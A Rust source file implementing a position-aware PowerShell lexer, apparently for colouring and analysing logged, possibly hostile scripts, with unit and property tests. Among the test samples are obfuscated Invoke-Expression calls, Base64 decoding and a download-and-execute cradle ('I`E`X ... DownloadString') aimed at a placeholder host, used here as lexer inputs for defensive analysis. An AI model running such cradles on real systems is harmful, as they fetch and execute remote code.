//! Splits PowerShell text into tokens for syntax colouring and for [`views`](super::views).
//!
//! PowerShell interprets a word by its position: `-eq` is an operator after a value and a parameter after a command, and
//! `if` is a keyword only where a statement may begin. The lexer therefore tracks what is expected next, for every open
//! bracket, on an explicit stack: it never recurses, and time and memory are linear in the text.
//!
//! ```text
//! text       if        (  $a        -eq       5         )  {  dir        -Recurse
//! expected   Statement →  Statement Operator  Operand   →  →  Statement  Argument
//! token      keyword      variable  operator  number          command    parameter
//! ```
//!
//! | file | subject |
//! | --- | --- |
//! | `token` | [`Token`] and its kinds |
//! | `context` | what is expected next |
//! | `code` | words and operators |
//! | `strings` | strings |
//! | `words` | character classes, keywords, variables, numbers |

mod code;
mod context;
mod strings;
mod token;
pub(super) mod words;

pub(crate) use token::{Token, TokenKind};

use crate::limits;
use context::{Announced, CodeContext, Expectation};
use words::{is_double_quote, is_name_char, is_newline, is_single_quote, variable_len};

/// Returns the tokens of a text, ascending and disjoint. Only white space lies between them.
///
/// Every text has tokens: there are no syntax errors, because logged texts are cut, damaged and hostile.
///
/// ```
/// use scriptscope::internal::script::lex;
///
/// let text = "Get-Date | iex";
/// let tokens: Vec<&str> = lex(text).map(|token| &text[token.start..token.end]).collect();
/// assert_eq!(tokens, ["Get-Date", "|", "iex"]);
/// ```
pub fn lex(text: &str) -> impl Iterator<Item = Token> {
    Lexer::new(text)
}

/// Returns a text with blanks in place of its comments, of the same length in bytes; `None` if it has none. Line ends
/// stay, also those within a comment.
pub(crate) fn without_comments(text: &str) -> Option<String> {
    // Most texts have no comment, and most matches are asked for again with each view.
    text.find('#')?;
    let mut code = String::with_capacity(text.len());
    let mut end = 0;
    for comment in lex(text).filter(|token| token.kind == TokenKind::Comment) {
        code.push_str(text.get(end..comment.start)?);
        let blank = |byte| if byte == b'\n' || byte == b'\r' { char::from(byte) } else { ' ' };
        code.extend(text.get(comment.start..comment.end)?.bytes().map(blank));
        end = comment.end;
    }
    code.push_str(text.get(end..)?);
    (end > 0).then_some(code)
}

/// A token, and the state after it.
#[derive(Clone, Copy)]
pub(in crate::script) struct PlacedToken {
    pub(in crate::script) token: Token,
    /// Brackets and strings that are open.
    pub(in crate::script) depth: usize,
    /// A string is open: white space may be its text.
    pub(in crate::script) in_string: bool,
    /// A statement may begin.
    pub(in crate::script) before_statement: bool,
}

/// Returns the tokens of a text with the state after each.
pub(in crate::script) fn lex_placed(text: &str) -> impl Iterator<Item = PlacedToken> {
    let mut lexer = Lexer::new(text);
    std::iter::from_fn(move || {
        let token = lexer.next()?;
        Some(PlacedToken {
            token,
            depth: lexer.stack.len(),
            in_string: lexer.open_strings > 0,
            before_statement: lexer.code.expected == Expectation::Statement
                && lexer.code.announced == Announced::Nothing,
        })
    })
}

/// The tokens of a text.
pub(super) struct Lexer<'a> {
    text: &'a str,
    at: usize,
    /// The open scopes around the innermost code, outermost first.
    stack: Vec<OpenScope>,
    /// The number of strings among them.
    open_strings: usize,
    /// The state of the innermost code.
    code: CodeContext,
    previous: Option<Token>,
}

/// A bracket or a string that has been opened and not closed.
#[derive(Clone, Copy)]
enum OpenScope {
    /// The code around a bracket.
    Code(CodeContext),
    /// A string in double quotes whose text is being lexed.
    DoubleQuoted {
        /// The string is a here-string.
        here: bool,
    },
}

impl Iterator for Lexer<'_> {
    type Item = Token;

    fn next(&mut self) -> Option<Token> {
        if let Some(OpenScope::DoubleQuoted { here }) = self.stack.last().copied() {
            self.rest().chars().next()?;
            return Some(self.double_quoted(here, 0));
        }
        self.skip_space();
        let first = self.rest().chars().next()?;
        Some(self.code_token(first))
    }
}

impl<'a> Lexer<'a> {
    pub(super) fn new(text: &'a str) -> Self {
        Self {
            text,
            at: 0,
            stack: Vec::new(),
            open_strings: 0,
            code: CodeContext::new(None, Expectation::Statement),
            previous: None,
        }
    }

    /// Returns whether the next token is in a string in double quotes, and not in code in that string.
    pub(super) fn in_string(&self) -> bool {
        matches!(self.stack.last(), Some(OpenScope::DoubleQuoted { .. }))
    }

    fn rest(&self) -> &'a str {
        self.text.get(self.at..).unwrap_or_default()
    }

    /// Returns the character `offset` bytes ahead.
    fn peek(&self, offset: usize) -> Option<char> {
        self.text.get(self.at + offset..)?.chars().next()
    }

    fn starts_with(&self, prefix: &str) -> bool {
        self.rest().starts_with(prefix)
    }

    /// Emits the next `len` bytes as a token.
    fn emit(&mut self, len: usize, kind: TokenKind) -> Token {
        let token = Token { start: self.at, end: self.at + len, kind };
        self.at = token.end;
        self.previous = Some(token);
        token
    }

    /// Emits a token that is a value.
    fn emit_value(&mut self, len: usize, kind: TokenKind) -> Token {
        self.code.after_value();
        self.emit(len, kind)
    }

    /// Emits an operator.
    fn emit_operator(&mut self, len: usize) -> Token {
        self.code.after_operator();
        self.emit(len, TokenKind::Operator)
    }

    /// Emits a token and sets what is expected next.
    fn emit_and_expect(&mut self, expected: Expectation, len: usize, kind: TokenKind) -> Token {
        self.code.expect(expected);
        self.emit(len, kind)
    }

    fn skip_space(&mut self) {
        let rest = self.rest();
        if rest.as_bytes().first().is_some_and(u8::is_ascii_graphic) {
            return;
        }
        let space = rest.len() - rest.trim_start().len();
        if rest.as_bytes().iter().take(space).any(|byte| matches!(byte, b'\n' | b'\r')) {
            self.code.end_line();
        }
        self.at += space;
    }

    /// Returns whether the previous token is of this kind and ends here.
    fn touches(&self, kind: TokenKind) -> bool {
        self.previous.is_some_and(|token| token.end == self.at && token.kind == kind)
    }

    /// Returns whether an attribute's name ends here: a type without its closing bracket, as in `[Parameter(`.
    fn touches_attribute(&self) -> bool {
        self.touches(TokenKind::Type)
            && self
                .previous
                .and_then(|token| self.text.get(token.start..token.end))
                .is_some_and(|text| !text.ends_with(']'))
    }

    /// Returns whether a value that can have members ends here.
    fn touches_value(&self) -> bool {
        let value = |token: Token| match token.kind {
            TokenKind::Variable | TokenKind::Member | TokenKind::Type => true,
            TokenKind::String => {
                matches!(self.code.expected, Expectation::Operator | Expectation::Argument)
            }
            TokenKind::Number => self.code.expected == Expectation::Operator,
            // The brace of a loop's body is the end of a statement.
            _ if self.code.expected == Expectation::Statement => false,
            _ => self
                .text
                .get(token.start..token.end)
                .is_some_and(|text| text.ends_with([')', ']', '}'])),
        };
        self.previous.is_some_and(|token| token.end == self.at && value(token))
    }

    /// Returns the offset of the first byte, `from` bytes ahead or later, that is not ASCII or for which `is` is false.
    /// Most of a script is ASCII, which takes no decoding.
    #[inline]
    fn skip_ascii(&self, from: usize, is: impl Fn(u8) -> bool) -> usize {
        let rest = self.text.as_bytes().get(self.at + from..).unwrap_or_default();
        from + rest.iter().take_while(|byte| byte.is_ascii() && is(**byte)).count()
    }

    /// Returns the offset of the end of a name, `from` bytes ahead or later.
    fn name_len(&self, from: usize) -> usize {
        let from = self.skip_ascii(from, |byte| byte.is_ascii_alphanumeric() || byte == b'_');
        self.len_until(from, |char| !is_name_char(char))
    }

    /// Returns the offset of the end of the line, `from` bytes ahead or later.
    fn line_len(&self, from: usize) -> usize {
        let rest = self.text.as_bytes().get(self.at + from..).unwrap_or_default();
        from + memchr::memchr2(b'\n', b'\r', rest).unwrap_or(rest.len())
    }

    /// Returns the offset of the first character, `from` bytes ahead or later, for which `ends` is true.
    fn len_until(&self, from: usize, ends: impl Fn(char) -> bool) -> usize {
        let rest = self.text.get(self.at + from..).unwrap_or_default();
        from + rest.find(ends).unwrap_or(rest.len())
    }

    /// Lexes the next token of code, which begins with `first`.
    fn code_token(&mut self, first: char) -> Token {
        let expected = self.code.expected;
        match first {
            // In a command's arguments `$a#` is one word.
            '#' if expected == Expectation::Argument && self.touches(TokenKind::Variable) => {
                let len = self.word_len(1);
                self.emit_value(len, TokenKind::Other)
            }
            '#' => {
                let len = self.line_len(0);
                self.emit(len, TokenKind::Comment)
            }
            '<' if self.starts_with("<#") => {
                let len = self.rest().find("#>").map_or(self.rest().len(), |at| at + 2);
                self.emit(len, TokenKind::Comment)
            }
            '`' => self.backtick(),
            '@' => self.at_sign(),
            '$' => self.dollar_sign(),
            '(' | '{' => self.open_bracket(first, 1, TokenKind::Other),
            ')' | '}' | ']' => self.close_bracket(first),
            ';' => self.emit_and_expect(self.code.line_start, 1, TokenKind::Other),
            ',' => {
                let expected = match expected {
                    Expectation::Argument => Expectation::Argument,
                    _ if self.code.line_start == Expectation::Key => Expectation::Key,
                    _ => Expectation::Operand,
                };
                let token = self.emit_and_expect(expected, 1, TokenKind::Other);
                self.code.announced = Announced::Continuation;
                token
            }
            '|' => {
                let len = if self.starts_with("||") { 2 } else { 1 };
                let token = self.emit_and_expect(Expectation::Statement, len, TokenKind::Operator);
                self.code.announced = Announced::Continuation;
                token
            }
            '&' if self.starts_with("&&") => {
                self.emit_and_expect(Expectation::Statement, 2, TokenKind::Operator)
            }
            '&' => self.call_operator(),
            '>' | '<' => self.redirection(),
            _ if is_single_quote(first) => self.single_quoted(first),
            _ if is_double_quote(first) => {
                self.code.after_value();
                self.open_double_quoted(false, first.len_utf8())
            }
            _ if self.code.announced == Announced::Member => self.member(first),
            '.' | ':' if self.touches_value() && self.is_member_access() => self.member_access(),
            '[' if self.touches_value() && !self.touches(TokenKind::Type) => {
                self.open_bracket('[', 1, TokenKind::Other)
            }
            _ => match expected {
                Expectation::Statement => self.statement(first),
                Expectation::Key => self.key(first),
                Expectation::Operand | Expectation::Operator => self.expression(first),
                Expectation::Argument => self.argument(first),
            },
        }
    }

    /// Lexes a backtick: before a line end it continues the line; elsewhere it escapes, and a word begins.
    fn backtick(&mut self) -> Token {
        match self.peek(1) {
            Some('\r') if self.peek(2) == Some('\n') => self.emit(3, TokenKind::Operator),
            Some(next) if is_newline(next) => self.emit(2, TokenKind::Operator),
            next if next.is_none_or(char::is_whitespace) => self.emit(1, TokenKind::Operator),
            _ if self.code.expected == Expectation::Statement => self.command(),
            _ => {
                let len = self.word_len(0);
                self.emit(len, TokenKind::Other)
            }
        }
    }

    /// Lexes `@`: an array, a hash table, a here-string or a splatted variable.
    fn at_sign(&mut self) -> Token {
        match self.peek(1) {
            Some('(') => self.open_bracket('(', 2, TokenKind::Operator),
            Some('{') => self.open_hash_table(),
            Some(quote) if is_single_quote(quote) || is_double_quote(quote) => {
                self.here_string(quote)
            }
            _ => match variable_len(self.rest()) {
                Some(len) => self.emit_value(len, TokenKind::Variable),
                None => self.emit(1, TokenKind::Other),
            },
        }
    }

    /// Lexes `$`: a subexpression or a variable.
    fn dollar_sign(&mut self) -> Token {
        if self.starts_with("$(") {
            return self.open_bracket('(', 2, TokenKind::Operator);
        }
        match variable_len(self.rest()) {
            Some(len) => self.emit_value(len, TokenKind::Variable),
            None if self.code.expected == Expectation::Argument => {
                let len = self.word_len(1);
                self.emit_value(len, TokenKind::Other)
            }
            None => self.emit(1, TokenKind::Other),
        }
    }

    /// Opens a bracket: a new context begins, and the present one resumes at the closing bracket.
    fn open_bracket(&mut self, bracket: char, len: usize, kind: TokenKind) -> Token {
        let outer = self.code;
        let inner = match bracket {
            '[' => CodeContext::new(Some(']'), Expectation::Operand),
            '{' if std::mem::take(&mut self.code.enumerates) => {
                CodeContext::new(Some('}'), Expectation::Key)
            }
            '{' => CodeContext::new(Some('}'), Expectation::Statement),
            _ if self.touches_attribute() => CodeContext::new(Some(')'), Expectation::Key),
            _ if self.touches(TokenKind::Member) => {
                CodeContext::new(Some(')'), Expectation::Operand)
            }
            _ => CodeContext::new(Some(')'), Expectation::Statement),
        };
        let block = bracket == '{'
            && (outer.announced == Announced::Block || outer.expected == Expectation::Operator);
        let parameters = bracket == '(' && outer.announced == Announced::Parameters;
        if block || parameters {
            self.code.expect(Expectation::Statement);
        } else {
            self.code.after_value();
        }
        self.enter_context(inner);
        self.emit(len, kind)
    }

    /// Opens `@{`.
    fn open_hash_table(&mut self) -> Token {
        self.code.after_value();
        self.enter_context(CodeContext::new(Some('}'), Expectation::Key));
        self.emit(2, TokenKind::Operator)
    }

    /// Enters a bracket unless too many are open.
    fn enter_context(&mut self, inner: CodeContext) {
        if self.stack.len() < limits::OPEN_BRACKETS {
            self.stack.push(OpenScope::Code(self.code));
            self.code = inner;
        }
    }

    /// Closes a bracket; a bracket that closes nothing is a value.
    fn close_bracket(&mut self, bracket: char) -> Token {
        if self.code.close == Some(bracket) {
            // The stack's top is the surrounding code. For code in a string, the string is below it.
            if let Some(OpenScope::Code(outer)) = self.stack.pop() {
                self.code = outer;
            }
            return self
                .emit(1, if self.in_string() { TokenKind::Operator } else { TokenKind::Other });
        }
        // An attribute's opening bracket was emitted with its type's name.
        self.emit_value(1, if bracket == ']' { TokenKind::Type } else { TokenKind::Other })
    }

    /// Lexes `&` or `.`: a call of the value after it, or after a command the operator that runs it in the background.
    fn call_operator(&mut self) -> Token {
        let call = matches!(
            self.code.expected,
            Expectation::Statement | Expectation::Operand | Expectation::Key
        );
        let token = self.emit_and_expect(Expectation::Statement, 1, TokenKind::Operator);
        if call {
            self.code.announced = Announced::Call;
        }
        token
    }

    /// Lexes a redirection such as `>>` or `>&1`.
    fn redirection(&mut self) -> Token {
        let rest = self.rest();
        let len = rest.len() - rest.trim_start_matches(['>', '<']).len();
        let merge = match rest.get(len..).unwrap_or_default().as_bytes() {
            [b'&', b'0'..=b'9', ..] => 2,
            _ => 0,
        };
        let token = self.emit(len + merge, TokenKind::Operator);
        if self.code.expected == Expectation::Operator {
            self.code.expect(Expectation::Argument);
        }
        token
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Formats tokens as their kind's letter (none for `Other`), a colon and their text.
    fn shown(text: &str) -> String {
        let letter = |kind| match kind {
            TokenKind::Other => "",
            TokenKind::Comment => "#",
            TokenKind::String => "s",
            TokenKind::Variable => "v",
            TokenKind::Command => "c",
            TokenKind::Keyword => "k",
            TokenKind::Operator => "o",
            TokenKind::Number => "n",
            TokenKind::Type => "t",
            TokenKind::Parameter => "p",
            TokenKind::Member => "m",
        };
        let shown = lex(text)
            .map(|token| format!("{}:{}", letter(token.kind), &text[token.start..token.end]));
        shown.collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn tokens_of_samples() {
        for (text, tokens) in SAMPLES {
            assert_eq!(shown(text), *tokens, "{text}");
        }
    }

    /// Texts, and their tokens as [`shown`] formats them.
    const SAMPLES: &[(&str, &str)] = &[
        (
            "enum Color : byte { Red = 1\n Green }; Get-Date",
            r"k:enum t:Color o:: :byte :{ m:Red o:= n:1 m:Green :} :; c:Get-Date",
        ),
        (
            r"Get-ChildItem -Path C:\Temp -Recurse | Where-Object Name -like '*.ps1' # done",
            r"c:Get-ChildItem p:-Path :C:\Temp p:-Recurse o:| c:Where-Object :Name p:-like s:'*.ps1' #:# done",
        ),
        (
            r#"if ($a -eq 5) { Write-Host "x: $($a.Name) $env:TEMP\x ${my var}" } elseif (!$b) { foo } else { return 1kb }"#,
            r#"k:if :( v:$a o:-eq n:5 :) :{ c:Write-Host s:"x:  o:$( v:$a o:. m:Name o:) s:  v:$env:TEMP s:\x  v:${my var} s:" :} k:elseif :( o:! v:$b :) :{ c:foo :} k:else :{ k:return n:1kb :}"#,
        ),
        (
            "foreach ($x in Get-Process) { $x.Kill() }",
            "k:foreach :( v:$x k:in c:Get-Process :) :{ v:$x o:. m:Kill :( :) :}",
        ),
        (
            r#"Get-Process | foreach { $_.Name } | % { $_ } | ? { $_ -match "a""b" }"#,
            r#"c:Get-Process o:| c:foreach :{ v:$_ o:. m:Name :} o:| c:% :{ v:$_ :} o:| c:? :{ v:$_ o:-match s:"a""b" :}"#,
        ),
        (
            "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s))",
            "t:[System.Text.Encoding] o::: m:UTF8 o:. m:GetString :( t:[Convert] o::: m:FromBase64String :( v:$s :) :)",
        ),
        (
            r#"& ("i"+"ex") $args; . .\lib.ps1; &{ 1 }"#,
            r#"o:& :( s:"i" o:+ s:"ex" :) v:$args :; o:. c:.\lib.ps1 :; o:& :{ n:1 :}"#,
        ),
        (
            "$h = @{ Name = 'x'; Path='y'; 'k' = 1 } ; $a = @(1, 2..5, 0x1F, -3)",
            "v:$h o:= o:@{ m:Name o:= s:'x' :; m:Path o:= s:'y' :; s:'k' o:= n:1 :} :; v:$a o:= o:@( n:1 :, n:2 o:.. n:5 :, n:0x1F :, o:- n:3 :)",
        ),
        (
            "function Get-Foo { param([Parameter(Mandatory=$true, Position=0)][string]$Name, [int[]]$Ids = 5) Write-Output $Name }",
            "k:function c:Get-Foo :{ k:param :( t:[Parameter :( m:Mandatory o:= v:$true :, m:Position o:= n:0 :) t:] t:[string] v:$Name :, t:[int[]] v:$Ids o:= n:5 :) c:Write-Output v:$Name :}",
        ),
        (
            r#"try { throw "bad" } catch [System.IO.IOException] { } finally { }"#,
            r#"k:try :{ k:throw s:"bad" :} k:catch t:[System.IO.IOException] :{ :} k:finally :{ :}"#,
        ),
        ("do { $i++ } while ($i -lt 10)", "k:do :{ v:$i o:++ :} k:while :( v:$i o:-lt n:10 :)"),
        (
            "switch -regex ($x) { 'a' { 1; break } default { 2 } }",
            "k:switch p:-regex :( v:$x :) :{ s:'a' :{ n:1 :; k:break :} k:default :{ n:2 :} :}",
        ),
        (
            r#"$x.foo.Bar("a", $b)[0].Baz = 3; $a[$i]::Length"#,
            r#"v:$x o:. m:foo o:. m:Bar :( s:"a" :, v:$b :) :[ n:0 :] o:. m:Baz o:= n:3 :; v:$a :[ v:$i :] o::: m:Length"#,
        ),
        (
            r#"cmd /c "dir" 2>&1 > out.txt; echo foo$bar-baz C$\x 192.168.1.1 443 -5"#,
            r#"c:cmd :/c s:"dir" n:2 o:>&1 o:> :out.txt :; c:echo :foo v:$bar :-baz :C$\x :192.168.1.1 n:443 n:-5"#,
        ),
        (
            r#""{0}{1}" -f 'a','b' -join ','; -join ('a','b'); 'a' -replace 'b', ''"#,
            r#"s:"{0}{1}" o:-f s:'a' :, s:'b' o:-join s:',' :; o:-join :( s:'a' :, s:'b' :) :; s:'a' o:-replace s:'b' :, s:''"#,
        ),
        (
            "I`E`X (New-Object Net.WebClient).DownloadString('http://x/')",
            "c:I`E`X :( c:New-Object :Net.WebClient :) o:. m:DownloadString :( s:'http://x/' :)",
        ),
        (
            "Invoke-Command @params -ScriptBlock { ls } -Name:value -Verbose",
            "c:Invoke-Command v:@params p:-ScriptBlock :{ c:ls :} p:-Name: :value p:-Verbose",
        ),
        (
            "$a = if ($x) { 1 } else { 2 }; $b ??= 3; $c += 1; $d -is [int]",
            "v:$a o:= k:if :( v:$x :) :{ n:1 :} k:else :{ n:2 :} :; v:$b o:??= n:3 :; v:$c o:+= n:1 :; v:$d o:-is t:[int]",
        ),
        ("–Path x; ‘a’ + “b $c d”", "p:–Path :x :; s:‘a’ o:+ s:“b  v:$c s: d”"),
        (
            r#""open $(foo "in $(bar) ner" ) end"#,
            r#"s:"open  o:$( c:foo s:"in  o:$( c:bar o:) s: ner" o:) s: end"#,
        ),
        (
            "using namespace System.Text; :outer while (1) { break outer }",
            "k:using :namespace :System.Text :; ::outer k:while :( n:1 :) :{ k:break :outer :}",
        ),
        (r#"git --% log --format="%h" | foo"#, r#"c:git :--% log --format="%h"  o:| c:foo"#),
        (
            "$s.Split(',').ForEach({ $_ }); { $_ }.Invoke()",
            "v:$s o:. m:Split :( s:',' :) o:. m:ForEach :( :{ v:$_ :} :) :; :{ v:$_ :} o:. m:Invoke :( :)",
        ),
        (
            "[char]65; [xml]$x; $x -band 0xff -shl 2; $i--; --$i; 7z x a.7z",
            "t:[char] n:65 :; t:[xml] v:$x :; v:$x o:-band n:0xff o:-shl n:2 :; v:$i o:-- :; o:-- v:$i :; c:7z :x :a.7z",
        ),
        (
            "filter foo { $_ }; workflow w { parallel { a } }",
            "k:filter c:foo :{ v:$_ :} :; k:workflow c:w :{ k:parallel :{ c:a :} :}",
        ),
        (
            r#"echo "a" , "b"; dir *.txt,*.ps1"#,
            r#"c:echo s:"a" :, s:"b" :; c:dir :*.txt :, :*.ps1"#,
        ),
        ("$x -split ';' | iex", "v:$x o:-split s:';' o:| c:iex"),
        ("<# block #> Get-Date #tail", "#:<# block #> c:Get-Date #:#tail"),
        (
            "a `\r\n -b\n$x = @\"\nfoo $y\n\"@ + @'\nq\n'@",
            "c:a o:`\r\n p:-b v:$x o:= s:@\"\nfoo  v:$y s:\n\"@ o:+ s:@'\nq\n'@",
        ),
        (
            "echo $a#;&b; echo -a#; echo a#; $a#;&b",
            "c:echo v:$a :# :; o:& c:b :; c:echo p:-a# :; c:echo :a# :; v:$a #:#;&b",
        ),
        (
            "iex 'ab'.Insert(1,'c') 'd'[0] \"a\".Length",
            "c:iex s:'ab' o:. m:Insert :( n:1 :, s:'c' :) s:'d' :[ n:0 :] s:\"a\" o:. m:Length",
        ),
        ("$x = $global:?; ls", "v:$x o:= v:$global:? :; c:ls"),
        (
            "Select-Object A,\n B |\n foreach { }\ntry\n{\n}",
            "c:Select-Object :A :, :B o:| c:foreach :{ :} k:try :{ :}",
        ),
    ];

    fn check(text: &str) -> Result<(), TestCaseError> {
        let mut at = 0;
        for token in lex(text) {
            prop_assert!(at <= token.start && token.start < token.end && token.end <= text.len());
            prop_assert!(text.is_char_boundary(token.start) && text.is_char_boundary(token.end));
            prop_assert!(text[at..token.start].trim().is_empty());
            at = token.end;
        }
        prop_assert!(text[at..].trim().is_empty());
        Ok(())
    }

    proptest! {
        #[test]
        fn every_byte_is_in_one_token_or_is_white_space(text in "[ -~\n\r\t“’–äK😀]{0,60}") {
            check(&text)?;
        }

        #[test]
        fn tokens_cover_any_sequence_of_pieces(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..40)) {
            check(&pieces.concat())?;
        }
    }

    const PIECES: &[&str] = &[
        "\"", "'", "@\"\n", "\n\"@", "@'\r\n", "\n'@", "$(", "${", "$x", "$", "@(", "@{", "(", ")",
        "{", "}", "[", "]", "[int", "::", ".", "..", "-eq", "-", "–", "--", "#", "<#", "#>", "`",
        "`\n", "\n", " ", "\u{a0}", ";", ",", "|", "&", "=", "+=", "if", "param", "function",
        "class", "enum", "foo", "0x1", "7z", "1.5kb", "?", "??=", "😀", "ä", "”", "’", "2>&1",
    ];
}
